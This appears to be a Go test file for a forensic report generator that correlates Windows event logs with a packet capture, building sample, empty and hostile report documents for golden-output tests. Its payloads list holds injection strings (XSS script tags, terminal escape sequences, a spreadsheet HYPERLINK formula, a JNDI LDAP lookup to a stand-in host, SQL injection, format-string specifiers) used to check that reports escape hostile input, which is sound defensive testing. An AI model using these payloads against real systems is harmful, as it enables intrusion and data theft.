package report

import (
	"errors"
	"net/netip"
	"strings"
	"time"

	"github.com/wirewitness/wirewitness/analyze/finding"
	"github.com/wirewitness/wirewitness/parsers/evidence"
)

// day is when the cases of these tests happened.
var day = time.Date(2026, 3, 14, 0, 0, 0, 0, time.UTC)

func at(h, m, s int) time.Time {
	return day.Add(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute + time.Duration(s)*time.Second)
}

func addresses(texts ...string) []netip.Addr {
	return each(texts, func(s *string) netip.Addr { return netip.MustParseAddr(*s) })
}

func record(file string, n uint64) evidence.Ref {
	return evidence.Ref{File: file, Unit: "record", N: n}
}

func frame(n uint64) evidence.Ref { return evidence.Ref{File: "sensor.pcapng.gz", Unit: "frame", N: n} }

const (
	sysmon   = "collection/WS-07/Sysmon.evtx"
	security = "collection/DC-01/Security.evtx"
)

// documents are the three cases every format has goldens for.
var documents = []struct {
	name string
	why  string
	doc  func() *finding.Document
}{
	{"ordinary", "three findings of different kinds, one of them half known", ordinary},
	{"empty", "no evidence that says anything: the report has to say so", empty},
	{"hostile", "every string of the evidence tries to be markup, control sequences, a formula or endless", hostile},
}

func ordinary() *finding.Document {
	return &finding.Document{
		Tool: "wirewitness 0.1.0", Case: "2026-017 harbour", Examiner: "J. Doe", Since: at(0, 0, 0), MinSev: finding.Low,
		Findings: []finding.Finding{beacon(), upload(), backup(), captureOnly()},
		Below:    3,
		Unlisted: 12,
		Coverage: coverage(),
		Names:    names(), NamesLeftOut: 41, QueriesUnlisted: 5,
		Evidence: files(),
		Policy:   policy(),
	}
}

// beacon has every part known. Its arithmetic: process 60; port 40; volume 35; timing 45 + 20/2 = 55;
// combined 100*(1-.4*.6*.65*.45) = 92.98; times 0.98 = 91.1.
func beacon() finding.Finding {
	return finding.Finding{
		ID: "f-3a91c07be2", Rank: 1, Score: 91, Severity: finding.Critical, Hypothesis: finding.CommandAndControl,
		Host: "WS-07", HostAddrs: addresses("10.0.0.7"),
		Process: finding.Process{
			Executable: `C:\Windows\System32\rundll32.exe`, Name: "rundll32.exe", PIDs: []uint32{4242},
			EntityIDs: []string{"5770385f-c22a-43e0-bf4c-06f5698ffbd9"}, CommandLine: `"C:\Windows\System32\rundll32.exe"`,
			User: `HARBOUR\m.keller`, Start: at(9, 2, 11),
			Chain: []string{
				`winword.exe (3120): "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\m.keller\Downloads\offer.docm"`,
				`explorer.exe (2044): C:\Windows\Explorer.EXE`,
			},
		},
		Peer:      finding.Peer{IPs: addresses("203.0.113.7"), Port: 8443},
		Transport: evidence.TCP, Protocol: "tls", Confirmed: true,
		Sent: evidence.Measured(1288490189), Received: evidence.Measured(39845888), Connections: 212, Measured: 210,
		First: at(9, 2, 15), Last: at(12, 34, 21),
		Facts: []finding.Fact{
			{ID: "process.no-arguments", Family: finding.FamilyProcess, Points: 60, Text: "rundll32.exe runs without arguments, which names no function to run",
				Refs: []evidence.Ref{record(sysmon, 18211)}, RefsTotal: 1},
			{ID: "port.protocol-elsewhere", Family: finding.FamilyPort, Points: 40, Text: "TLS confirmed on port 8443, which is not its own",
				Numbers: []finding.Number{{Name: "port", Value: 8443, Unit: "port"}}, Refs: []evidence.Ref{frame(912)}, RefsTotal: 212},
			{ID: "volume.outbound-share", Family: finding.FamilyVolume, Points: 35, Text: "97 % of 1.2 GiB payload was sent",
				Numbers: []finding.Number{{Name: "outbound share", Value: 0.97, Unit: "ratio"}, {Name: "sent", Value: 1288490189, Unit: "bytes"}},
				Refs:    []evidence.Ref{frame(912), frame(4410)}, RefsTotal: 210},
			{ID: "timing.regular", Family: finding.FamilyTiming, Points: 45, Text: "a connection every 60 s, give or take 4 %",
				Numbers: []finding.Number{{Name: "interval", Value: 60, Unit: "s"}, {Name: "jitter", Value: 0.04, Unit: "ratio"}, {Name: "connections", Value: 212, Unit: "count"}},
				Refs:    []evidence.Ref{record(sysmon, 18230), record(sysmon, 18244)}, RefsTotal: 212},
			{ID: "timing.long", Family: finding.FamilyTiming, Points: 20, Text: "active for 3 h 32 m without a pause above 2 minutes", Refs: []evidence.Ref{frame(912)}, RefsTotal: 1},
		},
		Arithmetic: finding.Arithmetic{
			Families: []finding.FamilyScore{
				{Family: finding.FamilyProcess, Facts: []string{"process.no-arguments"}, Points: 60, Cap: 70},
				{Family: finding.FamilyPort, Facts: []string{"port.protocol-elsewhere"}, Points: 40, Cap: 60},
				{Family: finding.FamilyVolume, Facts: []string{"volume.outbound-share"}, Points: 35, Cap: 60},
				{Family: finding.FamilyTiming, Facts: []string{"timing.regular", "timing.long"}, Points: 55, Cap: 60},
			},
			Combined:    92.98,
			Adjustments: []finding.Adjustment{{Kind: "link", Name: "tuple", Factor: 0.98, Reason: "confidence of the link to the process"}},
			Ceiling:     100,
		},
		Attribution: finding.Attribution{Basis: finding.BasisTuple, Confidence: 0.98, Reason: "same tuple and aligned time for 210 of 212 connections"},
		Techniques:  []finding.Technique{{ID: "T1071.001", Name: "Web Protocols"}, {ID: "T1571", Name: "Non-Standard Port"}, {ID: "T1218.011", Name: "Rundll32"}},
		Innocent:    []string{"a vendor's agent that is loaded through rundll32 and reports to its own service on port 8443"},
		Next:        []string{"contain: isolate WS-07, block 203.0.113.7", "preserve: memory of PID 4242 before it ends", `collect: offer.docm from C:\Users\m.keller\Downloads and its hash`},
		Missing:     []string{"2 of 212 connections were logged by the host and not seen by the capture: their bytes are not known"},
		Series:      beaconSeries(),
		Refs:        []evidence.Ref{record(sysmon, 18211), record(sysmon, 18230), frame(912), frame(4410)}, RefsTotal: 424,
	}
}

func beaconSeries() (lines []finding.Line) {
	for i := range 22 {
		sent := uint64(40<<20 + i*1<<20)
		if i == 12 {
			sent = 310 << 20
		}
		lines = append(lines, finding.Line{At: at(9, 0, 0).Add(time.Duration(i) * 10 * time.Minute), Sent: sent, Recv: uint64(1<<20 + i<<16), Events: 10})
	}
	return lines
}

// upload has two rivals and a name for its peer.
func upload() finding.Finding {
	return finding.Finding{
		ID: "f-88d0174c5a", Rank: 2, Score: 71, Severity: finding.High, Hypothesis: finding.Exfiltration,
		Host: "WS-07", HostAddrs: addresses("10.0.0.7"),
		Process: finding.Process{
			Executable: `C:\Users\m.keller\AppData\Local\Temp\OneDriveSetup.exe`, Name: "OneDriveSetup.exe", PIDs: []uint32{991, 1204, 3310},
			CommandLine: `OneDriveSetup.exe --sync D:\Projects`, User: `HARBOUR\m.keller`, Start: at(10, 40, 0),
		},
		Peer:      finding.Peer{IPs: addresses("198.51.100.20", "198.51.100.21", "2001:db8::20"), Port: 443, Domain: "files.example.net"},
		Transport: evidence.TCP, Protocol: "tls", Inner: []string{"http"}, Confirmed: true,
		Sent: evidence.Measured(325058560), Received: evidence.Measured(1048576), Connections: 3, Measured: 3,
		First: at(10, 41, 3), Last: at(11, 2, 59),
		Facts: []finding.Fact{
			{ID: "process.user-folder", Family: finding.FamilyProcess, Points: 45, Text: "runs from a Temp folder of the user", Refs: []evidence.Ref{record(sysmon, 19022)}, RefsTotal: 1},
			{ID: "volume.threshold", Family: finding.FamilyVolume, Points: 50, Text: "310 MiB sent, above the threshold of 50 MiB",
				Numbers: []finding.Number{{Name: "sent", Value: 325058560, Unit: "bytes"}}, Refs: []evidence.Ref{frame(88120)}, RefsTotal: 3},
		},
		Arithmetic: finding.Arithmetic{
			Families: []finding.FamilyScore{
				{Family: finding.FamilyProcess, Facts: []string{"process.user-folder"}, Points: 45, Cap: 70},
				{Family: finding.FamilyVolume, Facts: []string{"volume.threshold"}, Points: 50, Cap: 60},
			},
			Combined: 72.5, Adjustments: []finding.Adjustment{{Kind: "link", Name: "tuple, ambiguous", Factor: 0.98, Reason: "two candidates"}}, Ceiling: 100,
		},
		Attribution: finding.Attribution{Basis: finding.BasisAmbiguous, Confidence: 0.7, Rivals: []string{"msedge.exe (5120)", "svchost.exe (812)"}, Behalf: []string{"robocopy.exe (77)"},
			Reason: "the local port was used again within the tolerance of the clock"},
		Techniques: []finding.Technique{{ID: "T1567.002", Name: "Exfiltration to Cloud Storage"}},
		Innocent:   []string{"the installer of a synchronisation client that was started by hand"},
		Next:       []string{"collect: the file and its hash; its version data names no company"},
		Series:     []finding.Line{{At: at(10, 41, 0), Sent: 325058560, Recv: 1048576, Events: 3}},
		Refs:       []evidence.Ref{record(sysmon, 19022), frame(88120)}, RefsTotal: 4,
	}
}

// backup is lowered by an expected use and stays below high for want of a second family.
func backup() finding.Finding {
	return finding.Finding{
		ID: "f-c4410f9d03", Rank: 3, Score: 38, Severity: finding.Low, Hypothesis: finding.Unclear,
		Host: "WS-03", HostAddrs: addresses("10.0.0.3"),
		Process:   finding.Process{Executable: `C:\Program Files\Backup\backup-agent.exe`, Name: "backup-agent.exe", PIDs: []uint32{2210}, User: `NT AUTHORITY\SYSTEM`},
		Peer:      finding.Peer{IPs: addresses("10.0.0.9"), Port: 445},
		Transport: evidence.TCP, Protocol: "smb", Confirmed: true,
		Sent: evidence.Measured(44023414784), Received: evidence.Measured(12582912), Connections: 1, Measured: 1,
		First: at(1, 0, 0), Last: at(4, 12, 9),
		Facts: []finding.Fact{{ID: "volume.threshold", Family: finding.FamilyVolume, Points: 60, Text: "41 GiB sent, above the threshold of 50 MiB",
			Numbers: []finding.Number{{Name: "sent", Value: 44023414784, Unit: "bytes"}}, Refs: []evidence.Ref{frame(120)}, RefsTotal: 1}},
		Arithmetic: finding.Arithmetic{
			Families: []finding.FamilyScore{{Family: finding.FamilyVolume, Facts: []string{"volume.threshold"}, Points: 60, Cap: 60}},
			Combined: 60, Adjustments: []finding.Adjustment{
				{Kind: "link", Name: "tuple", Factor: 0.9, Reason: "confidence of the link to the process"},
				{Kind: "expected use", Name: "backup", Factor: 0.7, Reason: "nightly backup to the file server", Owner: "it-ops", Expires: "2027-03-31"},
			},
			Ceiling: 69, CeilingReason: "facts of one family only: stays below high",
		},
		Attribution: finding.Attribution{Basis: finding.BasisTuple, Confidence: 0.9},
		Innocent:    []string{"the nightly backup"},
		Next:        []string{"ask it-ops whether this volume is usual"},
		Series:      []finding.Line{{At: at(1, 0, 0), Sent: 44023414784, Recv: 12582912, Events: 1}},
		Refs:        []evidence.Ref{frame(120)}, RefsTotal: 1,
	}
}

// captureOnly has no process and no measured bytes.
func captureOnly() finding.Finding {
	return finding.Finding{
		ID: "f-0b77e1a2d9", Rank: 4, Score: 22, Severity: finding.Low, Hypothesis: finding.CommandAndControl,
		HostAddrs: addresses("10.0.0.88"),
		Peer: finding.Peer{IPs: addresses("2001:db8::bad:1"), Port: 4444, Noted: &evidence.Naming{
			Ref: evidence.Ref{File: "sensor.pcapng.gz", Unit: "offset", N: 340}, Names: []string{"bad-1.example.net"}, Server: "10.0.0.1"}},
		Transport: evidence.TCP, Protocol: "", Confirmed: false,
		Connections: 6, First: at(15, 0, 0), Last: at(15, 0, 0),
		Facts: []finding.Fact{{ID: "port.unrecognised", Family: finding.FamilyPort, Points: 22, Text: "no protocol recognised in what was seen", Refs: []evidence.Ref{frame(99120)}, RefsTotal: 6}},
		Arithmetic: finding.Arithmetic{
			Families: []finding.FamilyScore{{Family: finding.FamilyPort, Facts: []string{"port.unrecognised"}, Points: 22, Cap: 60}},
			Combined: 22, Ceiling: 69, CeilingReason: "facts of one family only: stays below high",
		},
		Attribution: finding.Attribution{Basis: finding.BasisNone, Reason: "no log of this host"},
		Missing:     []string{"which program it was: no log of 10.0.0.88 is here", "how much was sent: the capture kept 96 bytes of each packet"},
		Refs:        []evidence.Ref{frame(99120)}, RefsTotal: 6,
	}
}

func coverage() finding.Coverage {
	return finding.Coverage{
		Totals: finding.Totals{
			Hosts: 3, Processes: 1204, Connections: 18402, Linked: 17811, HostOnly: 96, OutboundBytes: 48 << 30, AttributedBytes: 46 << 30,
			Events: 204117, Frames: 9120044, FilesRead: 3, FilesPartly: 1, FilesUnknown: 1, ConfirmedProtocols: 17002, NoContent: 1100, UnknownByContent: 300,
			UnattributedByReason: []finding.ReasonCount{
				{Reason: "no log of this host", Count: 379, Bytes: 1 << 30}, {Reason: "event class not enabled", Count: 212, Bytes: 1 << 29},
			},
			FindingsBySeverity: [5]int{3, 2, 0, 1, 1}, PolicyTouched: 1, ExpiredExclusions: 1, ConnectionsTwoEnds: 40, ConnectionsMetAgain: 9,
		},
		Hosts: []finding.HostCoverage{dcCoverage(), wsCoverage(), {
			Addresses: addresses("10.0.0.88"), Connections: 379, OutboundBytes: 1 << 30,
			Conclusions: []string{"no log of this host is here: which programs sent its traffic cannot be known"},
		}},
		Captures: []finding.CaptureCoverage{{
			Capture: evidence.Capture{
				Ref: evidence.Ref{File: "sensor.pcapng.gz"}, Kind: "pcapng", LinkTypes: []string{"ethernet"}, Snaplen: 65535, First: at(0, 0, 2), Last: at(23, 59, 58),
				Frames: 9120044, Bytes: 61 << 30, Dropped: evidence.Measured(27360), BadChecksum: 3, NotIP: 4401,
			},
			Connections: 18306, MidStream: 12, OneSided: 4, Missed: 3 << 20, Hosts: []string{"DC-01", "WS-07"},
			Conclusions: []string{"the capture itself says that it lost 0.3 % of the packets"},
		}},
		Suppressed: []finding.Suppressed{
			{Adjustment: finding.Adjustment{Kind: "expected use", Name: "backup", Factor: 0.7, Reason: "nightly backup to the file server", Owner: "it-ops", Expires: "2027-03-31"},
				Count: 1, IDs: []string{"f-c4410f9d03"}, Before: 54},
			{Adjustment: finding.Adjustment{Kind: "exclusion", Name: "old scanner", Factor: 0.1, Reason: "vulnerability scanner", Owner: "secops", Expires: "2025-12-31"}, Count: 2, Before: 20, Expired: true},
		},
		Negative: []string{
			"DC-01 logs no network events: programs on it can be named for none of its 212 connections",
			"the capture lost 0.3 % of the packets",
		},
		Duplicates: 118, Problems: 2,
	}
}

func dcCoverage() finding.HostCoverage {
	return finding.HostCoverage{
		Name: "DC-01", Addresses: addresses("10.0.0.2"), Processes: 310, Connections: 212, OutboundBytes: 1 << 29,
		Sources: []finding.SourceCoverage{{
			Name: "Security", Files: []string{security}, Records: 88001, First: at(0, 0, 1), Last: at(23, 58, 59), Field: "TimeCreated",
			Classes: []finding.ClassCoverage{{EventID: 4688, Meaning: "process start", Count: 9001, First: at(0, 0, 9), Last: at(23, 58, 0), Read: true}, {EventID: 4624, Meaning: "logon", Count: 79000}},
			NotSeen: []string{"5156 connection allowed", "5158 port bound"},
			Gaps:    []finding.Gap{{From: 10440, To: 10912}, {From: 11000, To: 11000}}, GapsTotal: 7, MissingRecords: 519,
			Cleared: []finding.ClearedLog{{At: at(12, 59, 30), Log: "Security", User: `HARBOUR\svc-adm`, Ref: record(security, 10440)}},
		}},
		Clocks:      []finding.Clock{{Source: "Security", Class: "4688", Field: "TimeCreated", Capture: "sensor.pcapng.gz", Reason: "no connection is seen on both sides"}},
		Conclusions: []string{"5156 is not logged: connections of this host have no process", "the Security log was cleared once: what happened before 12:59:30 may be missing"},
	}
}

func wsCoverage() finding.HostCoverage {
	return finding.HostCoverage{
		Name: "WS-07", Aliases: []string{"ws-07.harbour.example"}, Addresses: addresses("10.0.0.7", "fe80::7"), Processes: 894, Connections: 17811, Linked: 17715,
		OutboundBytes: 46 << 30, AttributedBytes: 46<<30 - 5<<20,
		Sources: []finding.SourceCoverage{{
			Name: "Microsoft-Windows-Sysmon/Operational", Files: []string{sysmon}, Records: 116116, First: at(0, 0, 3).Add(-134 * time.Hour), Last: at(23, 59, 9).Add(-134 * time.Hour), Field: "UtcTime",
			Classes: []finding.ClassCoverage{
				{EventID: 1, Meaning: "process start", Count: 894, Read: true}, {EventID: 3, Meaning: "network connection", Count: 17811, Read: true},
				{EventID: 5, Meaning: "process end", Count: 702, Read: true}, {EventID: 22, Meaning: "name looked up", Count: 4410, Read: true},
			},
			NotSeen: []string{"8 remote thread", "10 process opened"},
		}},
		Clocks: []finding.Clock{
			{Source: "Microsoft-Windows-Sysmon/Operational", Class: "3, 22", Field: "UtcTime", Capture: "sensor.pcapng.gz", Offset: -(134*time.Hour + 14*time.Minute), Spread: 400 * time.Millisecond,
				Votes: 114, Candidates: 120, Applied: true, Steps: 1, Segments: []finding.ClockSegment{{From: at(6, 0, 0), Offset: -134 * time.Hour, Votes: 12}}},
			{Source: "Microsoft-Windows-Sysmon/Operational", Class: "1, 5", Field: "UtcTime", Capture: "sensor.pcapng.gz", Offset: 120 * time.Millisecond, Spread: 90 * time.Millisecond, Votes: 40, Candidates: 40, Applied: true},
		},
		Conclusions: []string{"all event classes needed for the join are here"},
	}
}

func files() []finding.File {
	sum := func(c string) string { return strings.Repeat(c, 64) }
	return []finding.File{
		{Name: sysmon, Size: 69206016, SHA256: sum("a"), Format: "evtx", State: "read", Records: 116116, Unit: "events"},
		{Name: security, Size: 20971520, SHA256: sum("b"), Format: "evtx", State: "read in part", Records: 88001, Unit: "events", ProblemsTotal: 2, Lost: 41,
			Problems: []evidence.Problem{
				{Kind: evidence.Damaged, Ref: evidence.Ref{File: security, Unit: "chunk", N: 14}, Lost: 41, Known: true, Err: errors.New("checksum of the records does not fit")},
				{Kind: evidence.Truncated, Ref: evidence.Ref{File: security}, Err: errors.New("file ends inside a chunk")},
			}},
		{Name: "sensor.pcapng.gz", Size: 21474836480, SHA256: sum("c"), Format: "pcap", State: "read", Unpacked: "gzip", Records: 9120044, Unit: "frames"},
		{Name: "collection/WS-07/copy/Sysmon.evtx", Size: 69206016, SHA256: sum("a"), Format: "evtx", State: "read", SameAs: sysmon},
		{Name: "collection/notes.docx", Size: 18001, SHA256: sum("d"), State: "unknown"},
	}
}

func policy() finding.Policy {
	return finding.Policy{
		Source: "built in", SHA256: strings.Repeat("e", 64),
		Settings: []finding.Setting{
			{Key: "protocol_list", Value: "http, dns, tls, smb, rdp", Reason: "the protocols that AN1225 names", Default: true},
			{Key: "data_volume_threshold.share", Value: "0.9", Unit: "ratio", Reason: "AN1225 gives 90 % outbound as its example", Default: true},
			{Key: "data_volume_threshold.bytes", Value: "52428800", Unit: "bytes", Reason: "above what the clean hosts send to one peer in a day", Default: false},
		},
		Text:        "protocol_list: [http, dns, tls, smb, rdp]\ndata_volume_threshold:\n  share: 0.9\n  bytes: 52428800\n",
		Assumptions: []string{"a program is judged by its path and its version data; signatures are not checked"},
	}
}

func empty() *finding.Document {
	return &finding.Document{
		Tool: "wirewitness 0.1.0", MinSev: finding.Info,
		Coverage: finding.Coverage{Negative: []string{"no event log and no capture could be read: nothing at all can be concluded"}, Totals: finding.Totals{FilesUnknown: 1}},
		Evidence: []finding.File{{Name: "empty.evtx", State: "empty", SHA256: strings.Repeat("0", 64)}},
		Policy:   policy(),
	}
}

// payloads are what a hostile name may consist of.
var payloads = []string{
	`<script>document.title="owned"</script>`,
	`"><img src=x onerror="document.title='owned'">`,
	`</style><script>alert(1)</script>`,
	`javascript:alert(1)`,
	"\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b[1000D",
	"nul\x00bel\x07back\bspace\r\noverwrite\ttab",
	"\u202eexe.tfosorcim\u202c \u2066isolated\u2069 \u200bzero\u200dwidth\ufeff",
	"c1 \u009b31m\u0085 next\u2028line\u2029paragraph",
	"bad utf-8 \xff\xfe\xc3 end",
	"=HYPERLINK(\"http://203.0.113.9/\",\"click\")",
	"日本語のプログラム.exe 漢字漢字漢字漢字漢字漢字漢字漢字漢字",
	"a" + strings.Repeat("\u0301", 60) + "zalgo",
	"tag \U000e0041\U000e0042 variation\ufe0f braille\u2800blank filler\u3164",
	"{{.Doc}} ${jndi:ldap://203.0.113.9/a} %s%n ' OR 1=1 --",
	strings.Repeat("A", 1500),
}

func hostile() *finding.Document {
	doc := ordinary()
	n := 0
	next := func() string { n++; return payloads[n%len(payloads)] }
	doc.Case, doc.Examiner, doc.OnlyHost = next(), next(), []string{next(), next()}
	doc.Findings = nil
	for i, p := range payloads {
		f := beacon()
		f.ID, f.Rank, f.Score, f.Severity = "f-"+strings.Repeat("0", 8)+countPlain(uint64(i+10)), i+1, float64(90-i), finding.Severity(4-i%5)
		f.Host, f.Process.Name, f.Process.Executable, f.Process.CommandLine, f.Process.User = p, next(), p, p, next()
		f.Process.Chain, f.Peer.Domain, f.Inner, f.Attribution.Rivals, f.Attribution.Behalf = []string{p, next()}, next(), []string{next()}, []string{p}, []string{p}
		f.Facts[0].Text, f.Facts[0].Numbers = p, []finding.Number{{Name: next(), Value: 1, Unit: next()}}
		f.Facts[0].Refs = []evidence.Ref{{File: p, Unit: "record", N: 1}}
		f.Arithmetic.Adjustments[0].Name, f.Arithmetic.Adjustments[0].Reason = next(), p
		f.Innocent, f.Next, f.Missing, f.Refs = []string{p}, []string{next()}, []string{p}, []evidence.Ref{{File: p}}
		f.Techniques = []finding.Technique{{ID: "T1071", Name: p}}
		doc.Findings = append(doc.Findings, f)
	}
	for i, p := range payloads {
		doc.Names = append(doc.Names, finding.NameUse{Host: next(), Process: finding.Process{Name: p, Executable: next()}, Domain: next(), Queries: i + 1, UniqueNames: 1, Entropy: 8,
			Refs: []evidence.Ref{{File: p}}, RefsTotal: 1})
	}
	h := &doc.Coverage.Hosts[1]
	h.Name, h.Aliases, h.Conclusions = next(), payloads, payloads
	h.Sources[0].Name, h.Sources[0].Field, h.Sources[0].Files, h.Sources[0].NotSeen = next(), next(), payloads, []string{next()}
	h.Clocks[0].Source, h.Clocks[0].Capture, h.Clocks[1].Reason, h.Clocks[1].Applied = next(), next(), payloads[0], false
	doc.Coverage.Hosts[0].Sources[0].Cleared[0].User = payloads[1]
	doc.Coverage.Captures[0].Comment, doc.Coverage.Captures[0].Ref.File, doc.Coverage.Captures[0].Conclusions = next(), next(), payloads
	doc.Coverage.Negative, doc.Coverage.Suppressed[0].Name, doc.Coverage.Suppressed[0].Reason = payloads, next(), next()
	for _, p := range payloads {
		doc.Evidence = append(doc.Evidence, finding.File{Name: p, State: "unreadable", ProblemsTotal: 1,
			Problems: []evidence.Problem{{Kind: evidence.Unreadable, Ref: evidence.Ref{File: p}, Err: errors.New(p)}}})
	}
	doc.Policy.Source, doc.Policy.Text, doc.Policy.Settings[0].Reason = next(), strings.Join(payloads, "\n"), next()
	return doc
}
